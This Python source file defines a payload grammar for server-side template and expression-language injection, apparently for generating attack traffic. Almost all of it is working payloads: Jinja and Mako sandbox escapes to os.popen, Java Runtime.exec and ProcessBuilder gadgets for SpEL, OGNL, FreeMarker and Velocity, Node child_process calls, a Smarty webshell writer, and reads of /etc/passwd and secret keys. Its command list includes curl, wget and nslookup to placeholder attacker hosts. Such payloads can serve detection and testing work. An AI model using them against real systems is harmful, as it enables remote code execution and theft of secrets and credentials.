"""Server-side template and expression-language injection.

Probes and gadgets per engine after PortSwigger's research, the engines' own manuals, and the
Struts (OGNL), Spring (SpEL) and Confluence advisories.
"""

from traffic.grammars.attacks.pieces import Grammar, Symbols, among_words

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "cmd": (
        "id", "whoami", "ls", "ls -la", "cat /etc/passwd", "uname -a", "curl ‹url›",
        "ping -c ‹d› ‹evil›", "calc", "calc.exe", "touch /tmp/‹id›", "nslookup ‹evil›",
        "wget ‹url›", "sleep ‹d›", "cat flag.txt", "env",
    ),
    "m": (
        "‹n›*‹n›", "‹n›*‹n›", "‹d›*‹d›", "7*7", "‹d›*'‹d›'", "7*'7'", "‹n›+‹n›", "‹n›-‹n›", "‹n›/0",
        "‹nn›*‹nn›", "‹n›%‹n›",
    ),
    "sp": ("", "", " "),
    "cls": (
        "''.__class__.__mro__[‹d›].__subclasses__()", "().__class__.__bases__[0].__subclasses__()",
        "[].__class__.__base__.__subclasses__()", "''.__class__.__base__.__subclasses__()",
        "{}.__class__.mro()[1].__subclasses__()", '""["__class__"]["__base__"]["__subclasses__"]()',
        "‹id›.__class__.__init__.__globals__", "request.__class__.__mro__[‹d›].__subclasses__()",
    ),
    "glob": (
        "self.__init__.__globals__", "request.application.__globals__",
        "cycler.__init__.__globals__", "lipsum.__globals__", "joiner.__init__.__globals__",
        "namespace.__init__.__globals__", "url_for.__globals__", "get_flashed_messages.__globals__",
        "config.__class__.__init__.__globals__", "g.pop.__globals__", "‹id›.__init__.__globals__",
    ),
    "pyos": (
        "‹glob›.os.popen('‹cmd›').read()", "‹glob›['os'].popen('‹cmd›').read()",
        "‹glob›.__builtins__.__import__('os').popen('‹cmd›').read()",
        '‹glob›[\'__builtins__\'][\'eval\']("__import__(\'os\').system(\'‹cmd›\')")',
        "‹cls›[‹n›]('‹cmd›',shell=True,stdout=-1).communicate()",
        "‹cls›[‹n›].__init__.__globals__['sys'].modules['os'].popen('‹cmd›').read()",
        "‹glob›.__builtins__.open('/etc/passwd').read()", "‹cls›[‹n›]('/etc/passwd').read()",
    ),
    "attr": (
        "|attr('__class__')", "|attr('\\x5f\\x5fclass\\x5f\\x5f')", "|attr('__globals__')",
        "|attr('__getitem__')('__builtins__')", "|attr(request.args.‹abc›)",
        "|attr('__subclasses__')()", "|attr('popen')('‹cmd›')|attr('read')()",
        '|attr("_"*2+"class"+"_"*2)',
    ),
    "rt": (
        "T(java.lang.Runtime).getRuntime().exec('‹cmd›')", "T(java.lang.System).getenv()",
        "new java.lang.ProcessBuilder({'‹/bin/sh¦bash›','-c','‹cmd›'}).start()",
        "T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','‹cmd›'})",
        "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)"
        ".exec('‹cmd›')",
        "T(java.lang.Thread).sleep(‹n›)",
        "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime()"
        ".exec('‹cmd›').getInputStream(),T(org.springframework.web.context.request.RequestContextH"
        "older).currentRequestAttributes().getResponse().getOutputStream())",
        '"".getClass().forName("javax.script.ScriptEngineManager").newInstance()'
        '.getEngineByName("js").eval("‹m›")',
        "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('‹cmd›').getInputStream())"
        ".next()",
        "T(java.net.InetAddress).getByName('‹evil›')", "new java.net.URL('‹url›').openStream()",
        "T(java.lang.Class).forName('‹id›.‹id›').newInstance()",
        "@java.lang.Runtime@getRuntime().exec('‹cmd›')",
        "new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('‹m›')",
    ),
    "ognl": (
        "(#_memberAccess['allowStaticMethodAccess']=true)",
        "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)",
        "#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('‹id›',"
        "'‹rnd›')",
        "@org.apache.struts2.ServletActionContext@getResponse().getWriter().println(‹m›)",
        "(#a=@java.lang.Runtime@getRuntime().exec('‹cmd›'))",
        "(#cmd='‹cmd›').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase()"
        ".contains('win')))",
        "@java.lang.Thread@sleep(‹n›000)", "#application", "#session.‹id›",
        "@java.lang.System@getenv()",
        "@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('‹cmd›')"
        ".getInputStream())",
        "(#p=new java.lang.ProcessBuilder('‹cmd›')).(#p.start())",
        "#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
        "#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'‹cmd›'})).start()",
        "'‹rnd›'.toString().class.forName('java.lang.Runtime')",
    ),
}

_GRAMMAR = Grammar(_SYMBOLS, finish=among_words(0.35, ("", "", " ")))

RULES = _GRAMMAR.rules(
    arithmetic=(
        "{{‹sp#1›‹m›‹sp#1›}}", "${‹m›}", "#{‹m›}", "*{‹m›}", "<%= ‹m› %>", "{%‹sp›‹m›‹sp›%}",
        "${{‹m›}}", "@(‹m›)", "{‹m›}", "{{=‹m›}}", "[[‹m›]]", "[[${‹m›}]]", "~{‹m›}", "{#‹m›#}",
        "<#= ‹m› >", "#set($‹abc#1›=‹m›)$‹abc#1›", "@{‹m›}", "%{‹m›}", "$[‹m›]", "{{{‹m›}}}",
        "<%25%3d‹m›%25>", "{@‹m›}", "{{‹m›}}‹rnd›", "‹rnd›{{‹m›}}${‹m›}<%= ‹m› %>#{‹m›}",
    ),
    polyglot=(
        '${{<%[%\'"}}%\\‹abc›', "{{‹m›}}[[‹m›]]${‹m›}", "‹rnd›{{‹n›}}${‹n›}<%=‹n›%>",
        "<%'${{/#{@}}%>{{‹abc›", "}}{{‹m›}}", "'}}{{‹m›}}", "%}{{‹m›}}{%", "}%><%=‹m›%>",
        "p ‹m›\n#{‹m›}\n%{‹m›}", "{{1}}{{‹m›}}{{'‹abc›'.toUpperCase()}}", '"}}${‹m›}#{‹m›}',
    ),
    jinja_config=(
        "{{‹sp#1›config‹.items()¦¦.SECRET_KEY¦['SECRET_KEY']¦.from_object('os')¦|pprint›‹sp#1›}}",
        "{{‹sp#1›self‹¦.__dict__¦._TemplateReference__context.‹id››‹sp#1›}}",
        "{{ request.environ‹['‹id›']¦› }}", "{{settings.SECRET_KEY}}", "{% debug %}{{‹id›}}",
        "{{ ‹id›.__class__ }}", "{{‹cls›}}", "{{‹sp#1›‹cls›[‹n›]‹sp#1›}}",
        "{% include '‹/etc/passwd¦‹id›.html¦../../‹id››' %}", "{{ get_user_file('/etc/passwd') }}",
        "{% load log %}{% get_admin_log ‹n› as log %}{% for e in log %}{{e.user.password}}{% "
        "endfor %}",
        "{{dict.‹id›.__globals__}}", "{{ ‹glob› }}",
    ),
    jinja_run=(
        "{{‹sp#1›‹pyos›‹sp#1›}}", "{{‹sp#1›‹pyos›‹sp#1›}}", "{% if ‹pyos› %}‹rnd›{% endif %}",
        "{%‹sp›print(‹pyos›)‹sp›%}", "{{()‹attr›‹attr›‹attr›}}", "{{request‹attr›‹attr›}}",
        "{{''‹attr›|attr('__base__')‹attr›}}",
        "{% for ‹abc#1› in ().__class__.__base__.__subclasses__() %}{% if 'warning' in "
        "‹abc#1›.__name__ %}{{‹abc#1›()._module.__builtins__['__import__']('os').popen('‹cmd›')"
        ".read()}}{% endif %}{% endfor %}",
        "{% set ‹abc#1›=‹glob› %}{{‹abc#1›}}", "{% with ‹abc#1›=‹pyos› %}{{‹abc#1›}}{% endwith %}",
    ),
    twig_and_smarty=(
        "{{_self.env.registerUndefinedFilterCallback('‹exec¦system¦passthru›')"
        "}}{{_self.env.getFilter('‹cmd›')}}",
        "{{['‹cmd›']|‹filter¦map¦sort›('‹system¦passthru¦exec›')}}",
        "{{['‹cmd›',0]|sort('system')}}", "{{‹id›|map('system')|join}}",
        "{{app.request.server.all|join(',')}}", "{{dump(‹app¦_context¦user›)}}",
        "{{'/etc/passwd'|file_excerpt(‹d›,‹n›)}}",
        "{{_self.env.setCache('ftp://‹evil›:‹port›')}}{{_self.env.loadTemplate('‹id›')}}",
        "{php}‹system¦echo¦passthru›('‹cmd›');{/php}", "{smarty.version}{‹m›}", "{system('‹cmd›')}",
        '{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET[\'‹abc›\']); ?>'
        '",self::clearConfig())}',
        "{$smarty.‹template¦server.‹id›¦env.PATH›}", "{if system('‹cmd›')}{/if}",
        "{fetch file='/etc/‹passwd¦‹id››'}",
        "{literal}{/literal}{self::getStreamVariable('file:///etc/‹passwd¦‹id››')}",
        "{pboot:if(system(‹cmd›))}{/pboot:if}",
    ),
    freemarker=(
        '<#assign ‹abc#1›="freemarker.template.utility.Execute"?new()> ${‹abc#1›("‹cmd›")}',
        '${"freemarker.template.utility.Execute"?new()("‹cmd›")}',
        "[#assign ‹abc#1›='freemarker.template.utility.Execute'?new()]${‹abc#1›('‹cmd›')}",
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI()"
        ".resolve('/etc/‹passwd¦‹id››').toURL().openStream().readAllBytes()?join(' ')}",
        "<#assign ‹abc#1›=object?api.class.getResource('‹id›')>${‹abc#1›}",
        "${.data_model.‹id›}${‹m›}",
        "<#assign ‹abc#1›='freemarker.template.utility.ObjectConstructor'?new()>"
        "${‹abc#1›('java.lang.ProcessBuilder','‹cmd›').start()}",
        "<#list .data_model?keys as ‹abc#1›>${‹abc#1›}</#list>", '<#include "/etc/‹passwd¦‹id››">',
        '${"freemarker.template.utility.JythonRuntime"?new()}<#‹abc›>',
    ),
    velocity=(
        "#set($‹abc#1›='')#set($rt=$‹abc#1›.class.forName('java.lang.Runtime'))$rt.getRuntime()"
        ".exec('‹cmd›')",
        "$class.inspect('java.lang.Runtime').type.getRuntime().exec('‹cmd›').waitFor()",
        "#set($‹abc#1›=‹m›)${‹abc#1›}",
        '#set($e="‹abc›");$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null)'
        '.invoke(null,null).exec("‹cmd›")',
        '#include("/etc/‹passwd¦‹id››")', "#foreach($‹abc#1› in [1..‹n›])$out.read()#end",
        "$request.getClass().getClassLoader().‹id›", '#evaluate("‹m›")#set($‹abc›=1)',
        "#set($x=$class.forName('java.lang.‹System¦Thread¦ProcessBuilder›'))$x.‹id›",
    ),
    erb_and_ruby=(
        "<%= ‹system¦exec¦IO.popen¦Kernel.exec›('‹cmd›') %>", "<%= `‹cmd›` %>",
        "<%= File.open('/etc/‹passwd¦‹id››').read %>", "<%= Dir.entries('/‹id›') %>", "#{`‹cmd›`}",
        "#{system('‹cmd›')}", "#{IO.popen('‹cmd›').read}",
        "<% require 'open3' %><% @a,@b,@c=Open3.popen3('‹cmd›') %><%= @b.readline()%>",
        "<%= self.‹class.name¦instance_variables¦methods› %><%=‹m›%>", "<%= %x(‹cmd›) %>",
        "= system('‹cmd›')\n#{‹m›}", "<%= ENV['‹id›'] %><%= ‹m› %>",
        "<%= Rails.application.‹secrets.secret_key_base¦credentials.‹id›› %>",
    ),
    mako_and_python=(
        "${self.module.cache.util.os.system('‹cmd›')}", "<%import os%>${os.popen('‹cmd›').read()}",
        "<% import os; x=os.popen('‹cmd›').read() %>${x}",
        "${__import__('os').popen('‹cmd›').read()}", "{{import os}}{{os.system('‹cmd›')}}",
        "{% import os %}{{os.popen('‹cmd›').read()}}", "{%raw __import__('os').system('‹cmd›')%}",
        '$eval(\'__import__("os").system("‹cmd›")\')',
        "{{handler.settings['cookie_secret']}}{{‹m›}}",
        "%{__import__('subprocess').getoutput('‹cmd›')}", "{‹id›.__init__.__globals__[‹id›]}",
        "{0.__class__.__mro__[‹d›].__subclasses__}", "%(‹id›.__class__)s{‹id›.__globals__}",
    ),
    spel=(
        "${‹rt›}", "#{‹rt›}", "*{‹rt›}", "__${‹rt›}__::.‹abc›", "__${‹m›}__::‹id›.‹abc›",
        "~{‹id›::__${‹rt›}__}", "${T(java.lang.Math).random()*‹n›}", "[[${‹rt›}]]",
        '<p th:text="${‹rt›}"></p>', "#{‹rt›}‹abc›", "(‹rt›)",
        "spring.cloud.function.routing-expression:‹rt›", "%23%7B‹rt›%7D",
        '{"name":"AddResponseHeader","args":{"name":"‹id›","value":"#{‹rt›}"}}', "|${‹rt›}|",
    ),
    ognl=(
        "%{‹ognl›}", "${‹ognl›}", "%{(‹ognl›).(‹ognl›)}",
        "%{(#nike='multipart/form-data').(‹ognl›).(‹ognl›)}", "redirect:${‹ognl›}",
        "redirect:%{‹ognl›}", "action:%{‹ognl›}", "redirectAction:${‹m›}",
        "method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,‹ognl›", "/${‹ognl›}/",
        "('\\43_memberAccess.allowStaticMethodAccess')(a)=true&(‹abc›)(('‹ognl›'))",
        "\\u0027+{‹ognl›}+\\u0027", "/%24%7B‹ognl›%7D/", "'+(‹ognl›)+'",
        "debug=command&expression=‹ognl›",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=‹id›",
        "/‹id›.action?‹abc›=%{‹ognl›}", "%{#‹abc#1›=‹m›,#‹abc#1›}", "(‹abc›)(‹ognl›)(‹abc›)",
    ),
    el=(
        "${‹applicationScope¦sessionScope¦pageContext.request.‹id›¦header.‹id›¦initParam›}${‹m›}",
        "${pageContext.request.getSession().setAttribute('‹id›','‹rnd›')}",
        "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('‹cmd›')}",
        "#{request.getClass().getClassLoader()}‹abc›",
        "${facesContext.getExternalContext().setResponseHeader('‹id›','‹rnd›')}",
        "#{facesContext.externalContext.session.‹id›}",
        '${"".getClass().forName("java.lang.System").getDeclaredMethod("‹id›").invoke(null)}',
        '#{session.setAttribute("‹id›","‹m›")}', "${sleep(‹n›000)}",
        "/?actionOutcome=/‹id›.xhtml?user%3d%23{‹id›.getClass().forName('java.lang.Runtime')}",
    ),
    mvel_and_scripts=(
        'import java.lang.*;Runtime.getRuntime().exec("‹cmd›")',
        'new java.lang.ProcessBuilder("‹cmd›").start();', "Runtime.getRuntime().exec('‹cmd›');‹m›",
        '{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime()'
        '.exec(\\"‹cmd›\\").getText()"}',
        "'‹cmd›'.execute().text", 'println "‹cmd›".execute().text',
        "new File('/etc/‹passwd¦‹id››').text",
        "@GrabResolver(name='‹abc›',root='‹url›')@Grab('‹abc›:‹abc›:1')import ‹abc›;",
        "def ‹abc#1›='‹cmd›'.execute();‹abc#1›.waitFor()", '["bash","-c","‹cmd›"].execute().text',
        "${new java.lang.String('‹b64s›').‹id›}${‹m›}",
        "Java.type('java.lang.Runtime').getRuntime().exec('‹cmd›')",
        "java.lang.Runtime.getRuntime().exec('‹cmd›')",
        '@ASTTest(value={assert java.lang.Runtime.getRuntime().exec("‹cmd›")})def ‹abc›',
    ),
    handlebars_and_node=(
        '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.push "return '
        'require(\'child_process\').execSync(\'‹cmd›\');"}}{{/with}}{{/with}}{{/with}}',
        "{{constructor.constructor('return process')().mainModule.require('child_process')"
        ".execSync('‹cmd›')}}",
        "#{root.process.mainModule.require('child_process').spawnSync('‹cmd›').stdout}",
        '{{range.constructor("return global.process.mainModule.require(\'child_process\')'
        '.execSync(\'‹cmd›\')")()}}',
        "<%= global.process.mainModule.require('child_process').execSync('‹cmd›') %>",
        "{{‹id›.constructor.constructor('‹m›')()}}",
        "#{function(){localLoad=global.process.mainModule.constructor._load;"
        "sh=localLoad('child_process').exec('‹cmd›')}()}",
        '{{lookup this "__proto__"}}{{‹abc›}}', "${require('child_process').execSync('‹cmd›')}",
        '{{#each ‹id›}}{{this.constructor.constructor "‹m›"}}{{/each}}',
        "{{'‹m›'.toString.constructor.call({},‹n›)}}",
        "- var x = root.process\n- x = x.mainModule.require\n= x('child_process')"
        ".execSync('‹cmd›')",
    ),
    angular=(
        "{{constructor.constructor('‹alert¦confirm¦prompt›(‹n›)')()}}",
        "{{$on.constructor('‹alert¦confirm¦prompt›(‹n›)')()}}",
        "{{$eval.constructor('alert(‹n›)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(‹n›)//');}}",
        "{{_openBlock.constructor('alert(‹n›)')()}}",
        "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf("
        "a.sub),a).value,0,'alert(‹n›)')()}}",
        "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(‹n›)');}}",
        "<div ng-app ng-csp>{{$on.constructor('alert(‹n›)')()}}</div>",
        "<input ng-focus=$event.path|orderBy:'[].constructor.from([‹n›],alert)'>",
        "[‹n›]|orderBy:'toString.constructor.from([‹n›],alert)'",
        "{{toString().constructor.prototype.charAt=[].join;[‹n›]|orderBy:'x=alert(‹n›)'}}",
        '<div v-html="\'\'.constructor.constructor(\'alert(‹n›)\')()">',
        '{{this.constructor.constructor(\'alert("‹rnd›")\')()}}',
    ),
    razor_and_dotnet=(
        "@(‹m›)‹rnd›", '@{var ‹abc#1›=System.Diagnostics.Process.Start("cmd.exe","/c ‹cmd›");}',
        '@System.IO.File.ReadAllText("/etc/‹passwd¦‹id››")', "@DateTime.Now@(‹m›)",
        '<%= System.Diagnostics.Process.Start("‹cmd›") %>', "{{ ‹id›.GetType().Assembly }}",
        '@(new System.Net.WebClient().DownloadString("‹url›"))',
        "<#= System.Environment.‹MachineName¦UserName› #>‹abc›",
        "{{'a'.GetType().Assembly.GetTypes()[‹n›]}}",
    ),
)
